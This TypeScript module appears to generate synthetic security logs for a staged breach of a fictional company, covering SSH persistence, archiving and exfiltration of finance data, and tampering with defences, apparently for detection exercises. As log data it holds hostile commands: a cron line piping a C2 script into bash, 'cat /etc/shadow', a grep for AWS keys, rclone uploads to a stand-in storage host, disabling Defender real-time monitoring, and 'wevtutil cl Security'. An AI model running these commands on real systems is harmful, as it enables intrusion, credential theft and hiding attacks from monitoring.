/** D-2 23:00 to D-1 05:10: the Linux host, the archives, three ways out, and the lights switched off. */
import { minuteUs, secondUs } from "../calendar.js";
import { deployKey, emitBlob, emitFlow, emitTrail } from "../cloud/cloud-day.js";
import { auditdText, emitSudo, emitSyslog } from "../cloud/linux-day.js";
import type { SyslogLine } from "../cloud/linux-day.js";
import type { Context } from "../context.js";
import { emitDeviceEvent, emitFileWrite, emitRegistryWrite } from "../endpoint/file.js";
import { emitConnection, emitDns, emitProxy } from "../endpoint/network.js";
import { emitProcess, securityBase } from "../endpoint/process.js";
import { sites, storyIps } from "../world/site.js";
import { c2, playersOf } from "./cast.js";
import { serviceChild } from "./chapters-endpoint.js";

/** D-2 23:00: ssh with a key from the file share, root, a cron line, and a look into the deployment script. */
export function linuxPersistence(ctx: Context): void {
  const host = ctx.world.server("LNX-WEB01");
  const { fileServerIp } = playersOf(ctx);
  const tag = "breach-linux";
  const at = (time: string): number => ctx.calendar.at(-2, time);
  const line = (time: string, rest: Omit<SyslogLine, "host" | "atUs">): void =>
    emitSyslog(ctx, { host, atUs: at(time), ...rest }, tag);
  const auth = { facility: "auth", severity: "info", process: "sshd", pid: 41_877 } as const;
  line("23:00:12", {
    ...auth,
    text: `Accepted publickey for deploy from ${fileServerIp} port 53144 ssh2: RSA SHA256:Vb1kQm3xT0yWc2pLr8sNfJ5uHdEa7gZi4oXqB6vRtYw`,
  });
  line("23:00:12.2", { ...auth, text: "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)" });
  emitSudo(
    ctx,
    { host, atUs: at("23:01:40"), user: "deploy", command: "/usr/bin/bash -i", directory: "/home/deploy", pid: 41_902 },
    tag,
  );
  const commands = [
    "id",
    "cat /etc/shadow",
    "grep -rn AWS_ /opt/contoso/deploy",
    "cat /opt/contoso/deploy/release.sh",
    "crontab -l",
  ];
  commands.forEach((command, i) => {
    const serial = 771_200 + i * 4;
    const stampUs = at("23:02:05") + i * 31 * secondUs;
    const words = command.split(" ");
    const fields = `argc=${words.length} ${words.map((w, k) => `a${k}="${w}"`).join(" ")}`;
    const base = { host, facility: "user", severity: "info", process: "audisp-syslog", pid: 611 } as const;
    emitSyslog(
      ctx,
      {
        ...base,
        atUs: stampUs,
        text: auditdText(
          "SYSCALL",
          stampUs,
          serial,
          `arch=c000003e syscall=59 success=yes exit=0 ppid=41903 pid=${41_910 + i} auid=1001 uid=0 gid=0 euid=0 tty=pts0 ses=812 comm="${words[0]}" exe="/usr/bin/${words[0]}" key="root-cmd"`,
        ),
      },
      tag,
    );
    emitSyslog(ctx, { ...base, atUs: stampUs + 1000, text: auditdText("EXECVE", stampUs, serial, fields) }, tag);
  });
  const cron = { facility: "cron", severity: "info", process: "crontab", pid: 41_941 } as const;
  line("23:07:15", { ...cron, text: "(root) REPLACE (root)" });
  for (let i = 0; i < 3; i++) {
    const time = `23:${["15", "30", "45"][i]}:01`;
    line(time, {
      facility: "cron",
      severity: "info",
      process: "CRON",
      pid: 42_010 + i * 37,
      text: `(root) CMD (curl -fsS https://${c2.domain}/assets/h.sh | bash)`,
    });
  }
  line("23:18:50", { ...auth, text: "pam_unix(sshd:session): session closed for user deploy" });
}

/** D-1 01:00: six archives on FS01. */
export function archives(ctx: Context): void {
  const tag = "breach-archive";
  for (let i = 0; i < 6; i++) {
    const name = `fin-${i + 1}.7z`;
    const atUs = ctx.calendar.at(-1, "01:00:20") + i * 3 * minuteUs;
    const time = new Date(atUs / 1000).toISOString().slice(11, 19);
    const p = serviceChild(ctx, {
      day: -1,
      time,
      name: "sevenZip",
      commandLine: `"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx1 -v3g -p******** -mhe=on C:\\ProgramData\\WinUpd\\${name} D:\\shares\\finance\\${["payroll", "treasury", "board", "tax", "audit", "contracts"][i]}`,
      slot: 30 + i,
    });
    emitProcess(ctx, p, tag);
    emitFileWrite(
      ctx,
      p,
      {
        atUs: atUs + 100 * secondUs,
        action: "FileCreated",
        fileName: name,
        folder: "C:\\ProgramData\\WinUpd\\",
        sizeBytes: 3_000_000_000,
        sha256: ctx.draw("archive", i).hex(64),
      },
      tag,
    );
  }
}

/** D-1 01:22–02:58: 18 GB through the proxy, to storage outside. */
export function proxyExfiltration(ctx: Context): void {
  const { service, fileServer, fileServerIp } = playersOf(ctx);
  const tag = "breach-exfiltration";
  const host = "eu2.dropstash.example";
  const startUs = ctx.calendar.at(-1, "01:22:10");
  const d = ctx.draw("exfiltration");
  const user = `${fileServer.name}$`;
  const chunks = 360;
  let flowBytes = 0;
  emitDns(
    ctx,
    { atUs: startUs - 200_000, clientIp: fileServerIp, name: host, answers: [storyIps.dropStorage], server: "DC01" },
    tag,
  );
  for (let i = 0; i < chunks; i++) {
    const atUs = startUs + i * 16 * secondUs + d.int(900_000);
    const sentBytes = 50_000_000;
    flowBytes += sentBytes;
    emitProxy(
      ctx,
      {
        site: sites.SEA,
        atUs,
        sourceIp: fileServerIp,
        sourcePort: 53_000 + (i % 900),
        user,
        destinationIp: storyIps.dropStorage,
        host,
        path: `/u/9c1f/part-${String(i).padStart(4, "0")}`,
        method: "PUT",
        sentBytes,
        receivedBytes: 402,
        userAgent: "rclone/v1.65.2",
        category: "online-storage",
      },
      tag,
    );
    if (i % 10 === 0)
      emitConnection(
        ctx,
        {
          process: service,
          atUs: atUs - 80_000,
          localIp: fileServerIp,
          localPort: 53_000 + (i % 900),
          remoteIp: storyIps.dropStorage,
          remotePort: 443,
          remoteUrl: host,
        },
        tag,
      );
    if (i % 36 !== 35) continue;
    emitFlow(
      ctx,
      {
        startUs: atUs - 35 * 16 * secondUs,
        endUs: atUs,
        sourceIp: fileServerIp,
        destinationIp: storyIps.dropStorage,
        port: 443,
        protocol: "T",
        direction: "Outbound",
        isAllowed: true,
        bytesOut: flowBytes,
        bytesIn: 120_000,
        vm: fileServer,
        type: "ExternalPublic",
        rule: "DefaultRule_AllowInternetOutBound",
      },
      tag,
    );
    flowBytes = 0;
  }
}

/** D-1 03:02–03:38: 6,000 objects from Contoso's own container, with a stolen SAS. */
export function blobCopy(ctx: Context): void {
  const d = ctx.draw("blob-copy");
  const startUs = ctx.calendar.at(-1, "03:02:00");
  const base = {
    account: "contosodata",
    container: "finance-archive",
    ip: storyIps.copier,
    userAgent: "AzCopy/10.23.0 Azure-Storage/0.15 (go1.21.5; linux)",
    authentication: "SAS",
    requestBytes: 0,
    keyHash: `SasSignature(${"7E5D1B"}${"0".repeat(58)})`,
  } as const;
  for (let i = 0; i < 3; i++)
    emitBlob(
      ctx,
      {
        ...base,
        atUs: startUs - 20 * secondUs + i * 2 * secondUs,
        operation: "ListBlobs",
        object: "",
        port: 44_100,
        responseBytes: 812_000,
      },
      d,
      "breach-blob-copy",
    );
  for (let i = 0; i < 6000; i++)
    emitBlob(
      ctx,
      {
        ...base,
        atUs: startUs + i * 360_000 + d.int(200_000),
        operation: "GetBlob",
        object: `${2019 + (i % 7)}/ledger/${String(i).padStart(5, "0")}.pdf`,
        port: 44_100 + (i % 32),
        responseBytes: d.range(40_000, 2_400_000),
      },
      d,
      "breach-blob-copy",
    );
}

/** D-1 03:40–04:10: 2 GB from S3 with the key of the deployment script. */
export function bucketCopy(ctx: Context): void {
  const d = ctx.draw("bucket-copy");
  const startUs = ctx.calendar.at(-1, "03:40:00");
  const base = {
    ip: storyIps.copier,
    userAgent: "aws-cli/1.22.34 Python/3.10.6 Linux/5.4.0",
    identity: deployKey,
    readOnly: true,
  } as const;
  emitTrail(
    ctx,
    { ...base, atUs: startUs, name: "GetCallerIdentity", source: "sts.amazonaws.com", request: {} },
    d,
    "breach-bucket-copy",
  );
  emitTrail(
    ctx,
    { ...base, atUs: startUs + 8 * secondUs, name: "ListBuckets", source: "s3.amazonaws.com", request: {} },
    d,
    "breach-bucket-copy",
  );
  for (let i = 0; i < 2; i++)
    emitTrail(
      ctx,
      {
        ...base,
        atUs: startUs + (20 + i) * secondUs,
        name: "ListObjects",
        source: "s3.amazonaws.com",
        isData: true,
        request: { bucketName: "contoso-finance-exports", "list-type": "2" },
      },
      d,
      "breach-bucket-copy",
    );
  for (let i = 0; i < 400; i++)
    emitTrail(
      ctx,
      {
        ...base,
        atUs: startUs + 30 * secondUs + i * 4_200_000 + d.int(900_000),
        name: "GetObject",
        source: "s3.amazonaws.com",
        isData: true,
        request: {
          bucketName: "contoso-finance-exports",
          key: `exports/${2024 + (i % 3)}/part-${String(i).padStart(4, "0")}.parquet`,
        },
        bytesOut: 5_000_000,
      },
      d,
      "breach-bucket-copy",
    );
}

/** D-1 05:10: protection off, log cleared. */
export function lightsOff(ctx: Context): void {
  const { fileServer } = playersOf(ctx);
  const tag = "breach-tampering";
  const off = serviceChild(ctx, {
    day: -1,
    time: "05:10:03",
    name: "powershell",
    commandLine: "powershell.exe -NoProfile -Command Set-MpPreference -DisableRealtimeMonitoring $true",
    slot: 50,
  });
  const clear = serviceChild(ctx, {
    day: -1,
    time: "05:10:41",
    name: "wevtutil",
    commandLine: "wevtutil.exe cl Security",
    slot: 51,
  });
  emitProcess(ctx, off, tag);
  emitRegistryWrite(
    ctx,
    off,
    {
      atUs: off.startUs + 900_000,
      key: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection",
      name: "DisableRealtimeMonitoring",
      data: "1",
      type: "Dword",
      previousData: "0",
    },
    tag,
  );
  emitDeviceEvent(
    ctx,
    off,
    {
      atUs: off.startUs + 950_000,
      action: "TamperingAttempt",
      fields: {
        TamperingAction: "Modified",
        Status: "Success",
        Target: "DisableRealtimeMonitoring",
        OriginalValue: "0",
        TamperingAttemptedValue: "1",
      },
    },
    tag,
  );
  emitProcess(ctx, clear, tag);
  const atUs = clear.startUs + 300_000;
  ctx.emit(
    "SecurityEvent",
    atUs,
    {
      ...securityBase(fileServer, { id: 1102, activity: "The audit log was cleared.", task: 104, level: "4" }, atUs),
      Account: `CONTOSO\\${fileServer.name}$`,
      AccountType: "Machine",
      SubjectUserName: `${fileServer.name}$`,
      SubjectDomainName: "CONTOSO",
      SubjectUserSid: "S-1-5-18",
      SubjectLogonId: "0x3e7",
    },
    tag,
  );
}
